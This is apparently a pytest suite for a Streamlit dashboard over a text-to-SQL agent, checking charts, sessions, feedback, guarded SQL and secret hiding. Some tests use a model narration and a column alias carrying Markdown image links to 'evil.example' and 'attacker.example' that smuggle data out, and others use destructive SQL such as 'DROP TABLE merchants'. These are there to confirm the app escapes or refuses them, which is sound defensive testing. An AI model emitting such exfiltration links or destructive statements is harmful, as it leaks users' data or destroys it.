"""The dashboard, driven through Streamlit's AppTest with a scripted model and the sample data."""

from __future__ import annotations

import json
import shutil
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
import yaml
from streamlit.testing.v1 import AppTest

from sqlagent.errors import LLMUnavailable
from sqlagent.store.history import HistoryStore
from sqlagent.testing import ScriptedLLM
from ui.format import escape_markdown, shown_text

REPO = Path(__file__).resolve().parents[2]
APP = REPO / "ui" / "app.py"
LLM_STATE_KEY = "sqlagent_llm"  # ui.resources.LLM_STATE_KEY: where a test puts its model

PHOENIX_SQL = (
    "SELECT DISTINCT merchant_name FROM merchants WHERE city = 'Phoenix' ORDER BY merchant_name"
)
CATEGORY_SQL = (
    "SELECT category, COUNT(*) AS merchants FROM merchants GROUP BY category "
    "ORDER BY merchants DESC, category"
)
MONTHLY_SQL = (
    "SELECT date_trunc('month', transaction_ts) AS month, SUM(amount) AS spend, "
    "COUNT(*) AS transactions FROM transactions WHERE status = 'approved' "
    "GROUP BY 1 ORDER BY 1"
)
ENV_NAMES = (
    "OPENAI_API_KEY",
    "OPENAI_BASE_URL",
    "SQLAGENT_MODEL",
    "SQLAGENT_DB",
    "SQLAGENT_POLICY",
    "SQLAGENT_MAX_ROWS",
    "SQLAGENT_MAX_REPAIRS",
    "SQLAGENT_STATEMENT_TIMEOUT",
    "SQLAGENT_LLM_TIMEOUT",
)


@pytest.fixture()
def knowledge(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, sample_db_path: Path
) -> Iterator[Path]:
    """A clean environment: no model configured, a private copy of the knowledge file."""
    for name in ENV_NAMES:
        monkeypatch.delenv(name, raising=False)
    path = tmp_path / "cards.knowledge.yaml"
    shutil.copy(REPO / "sample_data" / "cards.knowledge.yaml", path)
    monkeypatch.setenv("SQLAGENT_KNOWLEDGE", str(path))
    monkeypatch.setenv("SQLAGENT_HOME", str(tmp_path / "home"))
    yield path


def start(llm: ScriptedLLM | None = None) -> AppTest:
    at = AppTest.from_file(str(APP), default_timeout=60)
    if llm is not None:
        at.session_state[LLM_STATE_KEY] = llm
    at.run()
    assert not at.exception, [e.value for e in at.exception]
    return at


def ask(at: AppTest, question: str) -> AppTest:
    at.chat_input[0].set_value(question).run()
    assert not at.exception, [e.value for e in at.exception]
    return at


def texts(at: AppTest) -> str:
    """Every piece of text on the page (markdown, captions, alerts) as a reader sees it
    (escapes that keep model and data text inert taken out), one per line."""
    parts: list[str] = []
    for kind in ("markdown", "caption", "error", "warning", "info", "success", "title"):
        parts.extend(shown_text(str(getattr(e, "value", ""))) for e in at.get(kind))
    return "\n".join(parts)


def charts(at: AppTest) -> list[dict[str, Any]]:
    return [json.loads(e.proto.spec) for e in at.get("vega_lite_chart")]


def turns(at: AppTest) -> list[Any]:
    return list(at.session_state["turns"])


# --------------------------------------------------------------------------- asking


def test_ask_shows_narrative_table_chart_and_sql(knowledge: Path) -> None:
    llm = ScriptedLLM([CATEGORY_SQL, "Restaurants have the most locations: 117."])
    at = ask(start(llm), "Count merchant locations by category")

    page = texts(at)
    assert "Restaurants have the most locations: 117." in page
    assert "10 rows" in page
    frame = at.dataframe[0].value
    assert list(frame.columns) == ["category", "merchants"]
    assert frame.iloc[0].tolist() == ["restaurant", 117]
    [spec] = charts(at)
    assert spec["mark"]["type"] == "bar"
    assert spec["encoding"]["y"]["field"] == "category"
    assert spec["encoding"]["x"]["field"] == "merchants"
    [code] = at.code
    assert code.language == "sql"
    assert " ".join(code.value.split()) == at.session_state["turns"][0].answer.sql
    assert "merchants" in at.code[0].value and "GROUP BY" in at.code[0].value
    assert "**Tables:** `merchants`" in page
    assert "**Tokens:**" in page
    assert [b.label for b in at.download_button] == ["CSV", "Excel", "Parquet"]
    # The model was asked once for SQL and once to narrate.
    assert len(llm.calls) == 2 and llm.calls[1].streamed


def test_a_single_column_list_is_a_table_without_chart(knowledge: Path) -> None:
    llm = ScriptedLLM([PHOENIX_SQL, "There are 9 merchants in Phoenix."])
    at = ask(start(llm), "Which merchants are in Phoenix?")
    assert at.dataframe[0].value["merchant_name"].tolist()[0] == "Camelback Coffee Roasters"
    assert charts(at) == []
    assert "9 rows" in texts(at)


def test_chart_type_can_be_switched(knowledge: Path) -> None:
    llm = ScriptedLLM([MONTHLY_SQL, "Spend rose during the year."])
    at = ask(start(llm), "Approved spend and transactions by month")
    assert charts(at)[0]["mark"]["type"] == "line"
    switch = at.segmented_control[0]
    assert [o.split(": ")[-1] for o in switch.options] == ["Line", "Bar", "Scatter", "Table"]
    switch.set_value("bar").run()
    assert charts(at)[0]["mark"]["type"] == "bar"
    at.selectbox[0].set_value("transactions").run()
    assert charts(at)[0]["encoding"]["y"]["field"] == "transactions"
    at.segmented_control[0].set_value("table").run()
    assert charts(at) == []
    assert len(at.dataframe) == 1


def test_progress_is_reported_while_answering(knowledge: Path) -> None:
    llm = ScriptedLLM([PHOENIX_SQL, "Nine merchants."])
    at = ask(start(llm), "Which merchants are in Phoenix?")
    [status] = at.get("status") if at.get("status") else [None]
    assert status is not None, "no st.status box during the live answer"
    page = texts(at)
    for step in ("Reading the schema", "Writing SQL", "Checking the query", "Running the query"):
        assert step in page


def test_the_narration_streams_checked_after_the_table(
    knowledge: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """st.write_stream gets the narration in escaped pieces, none holding the ungrounded
    image; the SQL and table are drawn before its first piece."""
    import streamlit as st

    narration = (
        "There are 9 merchants in Phoenix. "
        "![x](https://evil.example/p.png?d=Camelback) The first is Camelback Coffee Roasters. "
        "That is all."
    )
    seen: list[tuple[str, int]] = []
    original = st.write_stream
    tables: list[int] = []
    original_dataframe = st.delta_generator.DeltaGenerator.dataframe

    def dataframe(self: Any, *args: Any, **kwargs: Any) -> Any:
        tables.append(len(seen))
        return original_dataframe(self, *args, **kwargs)

    def recording(stream: Any, **kwargs: Any) -> Any:
        def tee() -> Iterator[str]:
            for chunk in stream:
                seen.append((chunk, len(tables)))
                yield chunk

        return original(tee(), **kwargs)

    monkeypatch.setattr(st, "write_stream", recording)
    monkeypatch.setattr(st.delta_generator.DeltaGenerator, "dataframe", dataframe)
    llm = ScriptedLLM([PHOENIX_SQL, narration])
    at = ask(start(llm), "Which merchants are in Phoenix?")
    chunks = [chunk for chunk, _ in seen]
    assert len(chunks) >= 2
    assert all("evil" not in chunk and "!\\[" not in chunk for chunk in chunks)
    assert seen[0][1] >= 1  # the table was drawn before the first piece of narration
    final = at.session_state["turns"][0].answer.narrative
    assert shown_text("".join(chunks)) == final
    assert "evil" not in texts(at) and "That is all." in texts(at)
    assert len(at.dataframe) == 1  # the preview is gone: the answer below holds the table


# --------------------------------------------------------------------------- failures


def test_a_metric_label_from_the_model_shows_as_text(knowledge: Path) -> None:
    """A metric's label is Markdown; the alias the model wrote is shown, not rendered."""
    alias = "![x](https://attacker.example/p?d=1) :red[alarm] <b>total</b>"
    sql = f'SELECT COUNT(*) AS "{alias}" FROM merchants'
    at = ask(start(ScriptedLLM([sql, "There are many merchants."])), "How many merchants?")
    [metric] = at.metric
    assert shown_text(metric.label) == alias
    assert metric.label == escape_markdown(alias) != alias


def test_refused_sql_is_a_readable_error_with_the_sql(knowledge: Path) -> None:
    llm = ScriptedLLM(["DELETE FROM merchants"] * 3)
    at = ask(start(llm), "Remove all merchants")
    assert not at.exception
    [error] = at.error
    assert "refused" in error.value.lower()
    assert any("DELETE FROM merchants" in c.value for c in at.code)
    assert "Attempts 1–3 rejected" in texts(at)
    assert len(at.dataframe) == 0
    turn = turns(at)[0]
    assert not turn.answer.ok and turn.answer.error.type in ("UnsafeSQL", "GuardError")


def test_an_unreachable_model_is_a_message_not_a_traceback(knowledge: Path) -> None:
    llm = ScriptedLLM([LLMUnavailable("connection refused by the endpoint")])
    at = ask(start(llm), "Which merchants are in Phoenix?")
    assert not at.exception
    assert "could not be reached" in at.error[0].value
    assert "connection refused by the endpoint" in at.error[0].value


def test_without_a_model_the_banner_explains_and_verified_questions_still_work(
    knowledge: Path,
) -> None:
    at = start()
    [banner] = at.warning
    assert "No language model is configured" in banner.value
    assert "OPENAI_API_KEY" in banner.value and "OPENAI_BASE_URL" in banner.value

    ask(at, "How many customers hold three or more cards?")  # a verified question
    answer = turns(at)[-1].answer
    assert answer.ok and answer.verified
    [metric] = at.metric
    assert int(metric.value.replace(",", "")) == answer.rows[0][0] > 0

    # The example buttons offer only what can be answered without a model.
    offered = {b.label for b in at.button}
    assert "How many customers hold three or more cards?" in offered
    assert "How many customers are there?" not in offered  # a sample question, not verified

    ask(at, "Which merchant sells the most coffee?")  # not verified: needs a model
    assert "No language model is configured" in at.error[0].value
    assert "OPENAI_BASE_URL" in texts(at)


def test_a_connection_failure_is_readable(
    knowledge: Path, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    monkeypatch.setenv("SQLAGENT_DB", "postgresql+psycopg://nobody:s3cret-pw@127.0.0.1:9/none")
    at = AppTest.from_file(str(APP), default_timeout=60).run()
    assert not at.exception
    assert at.error, "no error shown"
    assert "s3cret-pw" not in texts(at)


# --------------------------------------------------------------------------- SQL


def test_edit_and_rerun_goes_through_the_guard(knowledge: Path) -> None:
    llm = ScriptedLLM([PHOENIX_SQL, "Nine merchants."])
    at = ask(start(llm), "Which merchants are in Phoenix?")
    answer_id = turns(at)[0].answer.id
    at.text_area(key=f"edit_{answer_id}").set_value(
        "SELECT DISTINCT merchant_name FROM merchants WHERE city = 'Tucson' ORDER BY 1"
    )
    at.button(key=f"rerun_{answer_id}").click().run()
    assert not at.exception
    edited = turns(at)[-1]
    assert edited.label == "Edited SQL for: Which merchants are in Phoenix?"
    assert edited.answer.ok and "Tucson" in (edited.answer.sql or "")
    assert len(at.dataframe) == 2
    assert len(llm.calls) == 2  # no model call for the user's SQL

    at.text_area(key=f"edit_{edited.answer.id}").set_value("DROP TABLE merchants")
    at.button(key=f"rerun_{edited.answer.id}").click().run()
    refused = turns(at)[-1].answer
    assert not refused.ok
    assert "refused" in at.error[-1].value.lower()


def test_sql_editor_runs_hand_written_sql(knowledge: Path) -> None:
    at = start()
    at.session_state["view"] = ":material/edit_note: SQL editor"
    at.run()
    at.text_area(key="sql_editor").set_value("SELECT COUNT(*) AS customers FROM customers")
    at.button[[b.label for b in at.button].index("Run")].click().run()
    assert not at.exception
    answer = turns(at)[-1].answer
    assert answer.ok and answer.rows == ((5000,),)
    assert [m.value for m in at.metric] == ["5,000"]
    assert turns(at)[-1].label == "SQL: SELECT COUNT(*) AS customers FROM customers"
    # The run switched to the Ask tab; back in the editor, the query is still there.
    at.session_state["view"] = ":material/edit_note: SQL editor"
    at.run()
    assert at.text_area(key="sql_editor").value == "SELECT COUNT(*) AS customers FROM customers"


def test_a_clarification_is_not_shown_as_a_failure(knowledge: Path) -> None:
    llm = ScriptedLLM(["CLARIFY: Which amount do you mean?\n- the purchase amount\n- the limit"])
    at = ask(start(llm), "What is the average amount?")
    answer = turns(at)[-1].answer
    assert answer.kind == "clarification"
    assert not at.error  # no red box: the answer asks a question back
    assert "Which amount do you mean?" in texts(at)


# --------------------------------------------------------------------------- sessions


def test_follow_ups_use_the_session_conversation(knowledge: Path) -> None:
    llm = ScriptedLLM(
        [PHOENIX_SQL, "Nine.", PHOENIX_SQL.replace("Phoenix", "Tucson"), "Some in Tucson."]
    )
    at = ask(start(llm), "Which merchants are in Phoenix?")
    ask(at, "and in Tucson?")
    follow_up = llm.calls[2].prompt
    assert "<conversation>" in follow_up and "Which merchants are in Phoenix?" in follow_up
    assert len(at.session_state["conversation"]) == 2


def test_two_sessions_do_not_share_a_conversation(knowledge: Path) -> None:
    llm_a = ScriptedLLM([PHOENIX_SQL, "Nine in Phoenix."])
    llm_b = ScriptedLLM([CATEGORY_SQL, "Restaurants lead."])
    a = ask(start(llm_a), "Which merchants are in Phoenix?")
    b = ask(start(llm_b), "Count merchant locations by category")
    assert "<conversation>" not in llm_b.calls[0].prompt
    assert "Which merchants are in Phoenix?" not in llm_b.calls[0].prompt
    assert [t.label for t in turns(a)] == ["Which merchants are in Phoenix?"]
    assert [t.label for t in turns(b)] == ["Count merchant locations by category"]
    assert len(a.session_state["conversation"]) == len(b.session_state["conversation"]) == 1


def test_new_conversation_forgets_earlier_turns(knowledge: Path) -> None:
    llm = ScriptedLLM([PHOENIX_SQL, "Nine.", CATEGORY_SQL, "Restaurants."])
    at = ask(start(llm), "Which merchants are in Phoenix?")
    at.button[[b.label for b in at.button].index("New conversation")].click().run()
    assert turns(at) == []
    ask(at, "Count merchant locations by category")
    assert "<conversation>" not in llm.calls[2].prompt


# --------------------------------------------------------------------------- feedback


def test_thumbs_up_then_save_as_verified_example(knowledge: Path) -> None:
    llm = ScriptedLLM([PHOENIX_SQL, "Nine merchants."])
    at = ask(start(llm), "List the merchants located in Phoenix")
    answer_id = turns(at)[0].answer.id
    assert not [b for b in at.button if b.key == f"save_{answer_id}"], "offered before approval"
    at.feedback[0].set_value(1).run()
    assert turns(at)[0].rating == 1
    stored = HistoryStore(knowledge.parent / "home" / "history.sqlite3").get(answer_id)
    assert stored is not None and stored.rating == 1 and stored.source == "ui"
    before = knowledge.read_text(encoding="utf-8")
    at.button(key=f"save_{answer_id}").click().run()
    assert not at.exception
    data = yaml.safe_load(knowledge.read_text(encoding="utf-8"))
    assert {
        "question": "List the merchants located in Phoenix",
        "sql": turns(at)[0].answer.sql,
    } in data["verified"]
    assert knowledge.read_text(encoding="utf-8").startswith(before.rstrip("\n")[:200])
    assert turns(at)[0].saved


def test_thumbs_down_offers_no_saving(knowledge: Path) -> None:
    llm = ScriptedLLM([PHOENIX_SQL, "Nine merchants."])
    at = ask(start(llm), "List the merchants located in Phoenix")
    at.feedback[0].set_value(0).run()
    assert turns(at)[0].rating == -1
    stored = HistoryStore(knowledge.parent / "home" / "history.sqlite3").get(turns(at)[0].answer.id)
    assert stored is not None and stored.rating == -1
    assert not [b for b in at.button if (b.key or "").startswith("save_")]


# --------------------------------------------------------------------------- other views


def test_schema_tab_lists_tables_columns_and_descriptions(knowledge: Path) -> None:
    at = start()
    at.session_state["view"] = ":material/schema: Schema"
    at.run()
    assert not at.exception
    overview = at.dataframe[0].value
    assert set(overview["table"]) == {"customers", "cards", "merchants", "transactions"}
    merchants = overview.set_index("table").loc["merchants"]
    assert merchants["description"].startswith("To count merchants")
    assert merchants["rows"] > 0
    columns = {tuple(df.value["column"]) for df in at.dataframe[1:]}
    assert ("merchant_id", "merchant_name", "category", "city", "state") in columns
    assert "Verified questions" in texts(at)


def test_a_verified_question_from_the_schema_tab_runs_without_a_model(knowledge: Path) -> None:
    at = start()
    at.session_state["view"] = ":material/schema: Schema"
    at.run()
    button = next(b for b in at.button if b.key == "verified_0")
    button.click().run()
    assert not at.exception
    answer = turns(at)[-1].answer
    assert answer.ok and answer.verified and answer.row_count == 9
    stored = HistoryStore(knowledge.parent / "home" / "history.sqlite3").get(answer.id)
    assert stored is not None and stored.verified
    assert stored.question == answer.question == turns(at)[-1].label


def test_the_api_key_is_never_shown(knowledge: Path) -> None:
    at = start()
    secret = "sk-test-0123456789abcdef"
    inputs = {t.label: t for t in at.text_input}
    inputs["API key"].set_value(secret)
    inputs["Endpoint"].set_value("http://127.0.0.1:9/v1")
    at.button[[b.label for b in at.button].index("Connect")].click().run()
    assert not at.exception
    assert "No language model is configured" not in texts(at)  # the key configured a model
    for element in ("markdown", "caption", "error", "warning", "info", "text"):
        assert all(secret not in str(getattr(e, "value", "")) for e in at.get(element))
    password = next(t for t in at.text_input if t.label == "API key")
    assert password.proto.type == password.proto.PASSWORD
    assert password.value == ""  # not kept in the input once used
    assert at.session_state["config"].api_key == secret
    assert secret not in repr(at.session_state["config"])


def test_an_example_question_is_asked_on_click(knowledge: Path) -> None:
    llm = ScriptedLLM(["SELECT COUNT(*) AS customer_count FROM customers", "5,000 customers."])
    at = start(llm)
    example = next(b for b in at.button if b.key == "example_1")
    assert example.label == "How many customers are there?"
    example.click().run()
    assert not at.exception
    assert "How many customers are there?" in llm.calls[0].prompt
    assert [m.value for m in at.metric] == ["5,000"]


def test_another_database_from_the_environment(
    knowledge: Path, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    import duckdb

    path = tmp_path / "shop.duckdb"
    with duckdb.connect(str(path)) as con:
        con.execute("CREATE TABLE orders (id INTEGER PRIMARY KEY, city VARCHAR, total DOUBLE)")
        con.execute("INSERT INTO orders VALUES (1, 'Oslo', 10.5), (2, 'Bergen', 7.25)")
    monkeypatch.setenv("SQLAGENT_DB", str(path))
    monkeypatch.delenv("SQLAGENT_KNOWLEDGE")  # shop.knowledge.yaml beside it: none yet
    llm = ScriptedLLM(["SELECT city, total FROM orders ORDER BY total DESC", "Oslo leads."])
    at = start(llm)
    page = texts(at)
    assert "shop.duckdb" in page and "Sample database" not in page
    assert "1 table]" in page  # the header badge
    assert not [b for b in at.button if (b.key or "").startswith("example_")]
    ask(at, "Which city has the largest order?")
    assert at.dataframe[0].value["city"].tolist() == ["Oslo", "Bergen"]
    assert charts(at)[0]["mark"]["type"] == "bar"


def test_a_database_the_cache_lets_go_of_is_closed(tmp_path: Path, sample_db_path: Path) -> None:
    """Evicted past ``max_entries`` (or cleared), a shared connection is closed: a ninth URL
    does not leave the first one's connection open for the life of the server."""
    import duckdb
    import streamlit as st

    from ui.resources import open_database

    targets = []
    for i in range(9):
        path = tmp_path / f"db{i}.duckdb"
        con = duckdb.connect(str(path))
        con.execute(f"CREATE TABLE t AS SELECT {i} AS n")
        con.close()
        targets.append(str(path))
    try:
        first = open_database(targets[0])
        assert first.execute("SELECT n FROM t", max_rows=5, timeout=5).rows == ((0,),)
        for target in targets[1:]:
            open_database(target)  # the ninth evicts the least recently used: the first
        with pytest.raises(duckdb.ConnectionException, match=r"(?i)closed"):
            first.execute("SELECT n FROM t", max_rows=5, timeout=5)
        last = open_database(targets[-1])
        assert last.execute("SELECT n FROM t", max_rows=5, timeout=5).rows == ((8,),)
    finally:
        st.cache_resource.clear()
    with pytest.raises(duckdb.ConnectionException, match=r"(?i)closed"):
        last.execute("SELECT n FROM t", max_rows=5, timeout=5)
